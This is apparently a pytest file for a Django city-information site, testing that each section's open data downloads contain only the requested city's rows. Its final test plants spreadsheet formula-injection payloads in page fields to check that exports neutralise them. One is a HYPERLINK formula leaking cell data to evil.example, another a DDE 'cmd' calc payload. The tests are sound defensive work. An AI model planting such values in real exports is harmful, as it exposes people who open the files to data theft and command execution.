"""Open data downloads on each section: the files export_opendata writes, for the requested site's city only."""

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from django.core.management import call_command
from icalendar import Calendar

from home.models import Municipality
from home.sites import city_section
from tests.rows import module_rows

ROOT = Path(__file__).resolve().parents[2]
FACILITIES = ROOT / "tests" / "fixtures" / "facilities"
EVENTS = ROOT / "tests" / "fixtures" / "events"
NURSERIES = ROOT / "tests" / "fixtures" / "nurseries"
GARBAGE = ROOT / "tests" / "fixtures" / "garbage"
OPENDATA = ROOT / "data" / "opendata"
BOM = b"\xef\xbb\xbf"
ICHIKAWA_HOST = "ichikawa.example.jp"
YOKOHAMA_HOST = "yokohama.example.jp"

KIND_FILES = {
    "public_facilities.csv": "facilities",
    "aed.csv": "aed",
    "evacuation_spaces.csv": "evacuation",
    "events.csv": "events",
    "childcare_facilities.csv": "childcare",
    "garbage_towns.csv": "garbage-towns",
}


def run(*args):
    call_command(*map(str, args), stdout=io.StringIO())


def _build():
    """高松市 (the default site) and 市川市 with their real files; 横浜市 with its nurseries and a notice."""
    import shutil
    import tempfile

    from home.cities import setup_city
    from services.nurseries.demo import ensure_yokohama_nurseries
    from services.nurseries.importers import parse_vacancies
    from services.nurseries.notices import counts_from, match_sheet, save_notice

    for kind, name in [
        ("facilities", "takamatsu_0035_libraries.csv"),
        ("aed", "takamatsu_0002_aed.csv"),
        ("evacuation", "takamatsu_0060_evacuation.csv"),
        ("childcare", "takamatsu_0013_nurseries.csv"),
    ]:
        run("import_opendata", kind, FACILITIES / name, "--municipality", "372013")
    run("import_opendata", "events", EVENTS / "takamatsu_0081_sample.csv", "--municipality", "372013")
    with tempfile.TemporaryDirectory() as folder:
        for name in ("0090.csv", "0074.csv"):
            shutil.copy(OPENDATA / "takamatsu-opendata" / name, folder)
        run("import_5374", folder, "--municipality", "372013")
    run("import_opendata", "garbage-towns", GARBAGE / "takamatsu_garbage_towns.csv", "--municipality", "372013")

    setup_city("122033", "市川市", hostname=ICHIKAWA_HOST)
    for kind, name in [
        ("facilities", "ichikawa_122033_101_public_facility.csv"),
        ("aed", "ichikawa_122033_108_aed.csv"),
        ("evacuation", "ichikawa_122033_103_evacuation_space.csv"),
        ("childcare", "ichikawa_122033_105_preschool.csv"),
    ]:
        run("import_opendata", kind, FACILITIES / name, "--municipality", "122033")

    yokohama = setup_city("141003", "横浜市", hostname=YOKOHAMA_HOST).municipality
    kanou = NURSERIES / "yokohama_202408_kanou_sample.csv"
    ensure_yokohama_nurseries(yokohama, kanou, NURSERIES / "yokohama_202408_location_sample.csv")
    sheet = parse_vacancies(kanou, as_of=date(2024, 8, 1))
    save_notice(yokohama, date(2024, 8, 1), counts_from(match_sheet(sheet, yokohama)), publish=True)


_rows = module_rows(_build)


@pytest.fixture
def cities(_rows, db):
    return {m.code: m for m in Municipality.objects.filter(code__in=["372013", "122033", "141003"])}


def exported(tmp_path, kind, code) -> bytes:
    path = tmp_path / f"{kind}-{code}.csv"
    run("export_opendata", kind, path, "--municipality", code)
    return path.read_bytes()


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("name, kind", KIND_FILES.items())
def test_each_csv_is_what_export_opendata_writes_for_the_sites_city_only(client, cities, tmp_path, name, kind):
    response = client.get(f"/opendata/{name}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="372013_{name}"'
    data = response.content
    assert data.startswith(BOM)
    assert data == exported(tmp_path, kind, "372013")
    rows = rows_of(data)
    assert len(rows) > 1, "高松市 has rows of every kind here"
    assert "市川市" not in data.decode("utf-8-sig") and "横浜" not in data.decode("utf-8-sig")


@pytest.mark.parametrize("name", ["public_facilities.csv", "aed.csv", "evacuation_spaces.csv"])
def test_another_citys_site_gets_its_own_rows(client, cities, tmp_path, name):
    response = client.get(f"/opendata/{name}", HTTP_HOST=ICHIKAWA_HOST)
    assert response["Content-Disposition"] == f'attachment; filename="122033_{name}"'
    assert response.content == exported(tmp_path, KIND_FILES[name], "122033")
    text = response.content.decode("utf-8-sig")
    assert "市川市" in text and "高松市" not in text
    rows = rows_of(response.content)
    assert {row[0] for row in rows[1:]} == {"122033"}  # the 地方公共団体コード column


def test_the_5374_zip_holds_the_files_export_5374_writes(client, cities, tmp_path):
    response = client.get("/opendata/garbage_5374.zip")
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"] == 'attachment; filename="372013_garbage_5374.zip"'
    run("export_5374", tmp_path, "--municipality", "372013")
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert sorted(archive.namelist()) == sorted(p.name for p in tmp_path.iterdir())
    for name in archive.namelist():
        assert archive.read(name) == (tmp_path / name).read_bytes(), name
    assert "高松第一" in archive.read("area_days.csv").decode("utf-8")


def test_a_city_without_garbage_data_gets_empty_files_not_another_citys(client, cities):
    response = client.get("/opendata/garbage_towns.csv", HTTP_HOST=ICHIKAWA_HOST)
    assert rows_of(response.content) == [["町丁目", "地区コード", "地区名"]]


def test_the_latest_vacancy_notice_reads_back_into_the_same_counts(client, cities, tmp_path):
    from services.nurseries.importers import parse_vacancies
    from services.nurseries.models import VacancyNotice
    from services.nurseries.notices import counts_from, match_sheet

    yokohama = cities["141003"]
    response = client.get("/opendata/nursery_vacancies.csv", HTTP_HOST=YOKOHAMA_HOST)
    assert response["Content-Disposition"] == 'attachment; filename="141003_nursery_vacancies.csv"'
    assert response.content.startswith(BOM)
    rows = rows_of(response.content)
    assert rows[0] == ["施設番号", "施設名", "基準日", "0歳", "1歳", "2歳", "3歳", "4歳", "5歳"]
    assert len(rows) == 25 and {row[2] for row in rows[1:]} == {"2024-08-01"}
    path = tmp_path / "vacancies.csv"
    path.write_bytes(response.content)
    sheet = parse_vacancies(path)
    notice = VacancyNotice.objects.get(municipality=yokohama)
    assert counts_from(match_sheet(sheet, yokohama)) == notice.counts
    # 高松市 has no notice: the header only
    assert rows_of(client.get("/opendata/nursery_vacancies.csv").content) == [rows[0]]


def test_unknown_download_is_a_404(client, cities):
    assert client.get("/opendata/passwords.csv").status_code == 404
    assert client.get("/opendata/facilities.geojson").status_code == 404  # a link, not a file


SECTIONS = {
    "facilities": (
        "FacilityIndexPage",
        ["public_facilities.csv", "aed.csv", "evacuation_spaces.csv", "facilities.geojson"],
    ),
    "events": ("EventIndexPage", ["events.csv", "feed/"]),
    "garbage": ("GarbageCalendarPage", ["garbage_5374.zip", "garbage_towns.csv"]),
    "nurseries": ("NurseryIndexPage", ["childcare_facilities.csv", "nursery_vacancies.csv"]),
}


@pytest.mark.parametrize("section", SECTIONS)
def test_each_section_page_lists_its_downloads_with_the_licence(client, cities, section):
    from django.apps import apps

    model_name, links = SECTIONS[section]
    model = next(m for m in apps.get_models() if m.__name__ == model_name)
    page = city_section(cities["372013"], model)
    response = client.get(page.url)
    assert response.status_code == 200
    html = response.content.decode()
    block = html[html.index(f'data-opendata-downloads="{section}"') :]
    block = block[: block.index("</section>")]
    for link in links:
        assert link in block, link
    assert "CC BY 4.0" in block and "高松市" in block


def test_the_links_answer_geojson_and_icalendar(client, cities):
    from services.events.models import EventIndexPage

    geojson = client.get("/api/v1/facilities.geojson?limit=1000").json()
    assert geojson["type"] == "FeatureCollection" and geojson["features"]
    index = city_section(cities["372013"], EventIndexPage)
    calendar = Calendar.from_ical(client.get(index.url + "feed/").content)
    assert calendar.walk("VEVENT") is not None


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def unsafe_cells(data: bytes) -> list[str]:
    """Cells a spreadsheet would run as a formula: starting with = + - @ tab or CR, and not a number."""
    import re

    number = re.compile(r"^[+-]?[\d,]*\.?\d+$")
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))  # a CR inside a quoted cell stays there
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START) and not number.match(cell)]


def test_every_download_neutralises_formula_like_cells_staff_typed(client, cities):
    """Hostile text typed into a facility, an event, a dictionary item, an area and a nursery's page
    reaches no /opendata/ file as a formula, for every download of every section."""
    from facilities.models import FacilityPage
    from opendata.downloads import REGISTRY
    from services.events.models import EventPage
    from services.garbage.models import CollectionArea, SortingItem
    from services.nurseries.models import Nursery

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"詳しく")'
    for page in [
        FacilityPage.objects.filter(municipality__code="372013", kind="facilities").first(),
        FacilityPage.objects.filter(municipality__code="372013", kind="childcare").first(),
        Nursery.objects.filter(municipality__code="141003").first().facility,
    ]:
        page.title = hostile
        page.address = "@SUM(1+1)"
        page.save_revision().publish()
    event = EventPage.objects.filter(municipality__code="372013").first()
    event.title, event.venue_name = "+cmd|' /C calc'!A0", "-2+3"
    event.save_revision().publish()
    SortingItem.objects.filter(municipality__code="372013").update(notice="\t=1+1")
    area = CollectionArea.objects.filter(municipality__code="372013").first()
    area.name = "\r=1+1"
    area.save()

    files = [download for download in REGISTRY.values() if download.link is None]
    assert {"public_facilities.csv", "events.csv", "garbage_5374.zip", "nursery_vacancies.csv"} <= {
        download.name for download in files
    }
    for host in ({}, {"HTTP_HOST": YOKOHAMA_HOST}):  # 高松市 (the default site), 横浜市 (its nurseries)
        for download in files:
            response = client.get(f"/opendata/{download.name}", **host)
            assert response.status_code == 200, download.name
            data = b"".join(response.streaming_content) if response.streaming else response.content
            if download.name.endswith(".zip"):
                with zipfile.ZipFile(io.BytesIO(data)) as archive:
                    for member in archive.namelist():
                        assert unsafe_cells(archive.read(member)) == [], (download.name, member)
            else:
                assert unsafe_cells(data) == [], download.name
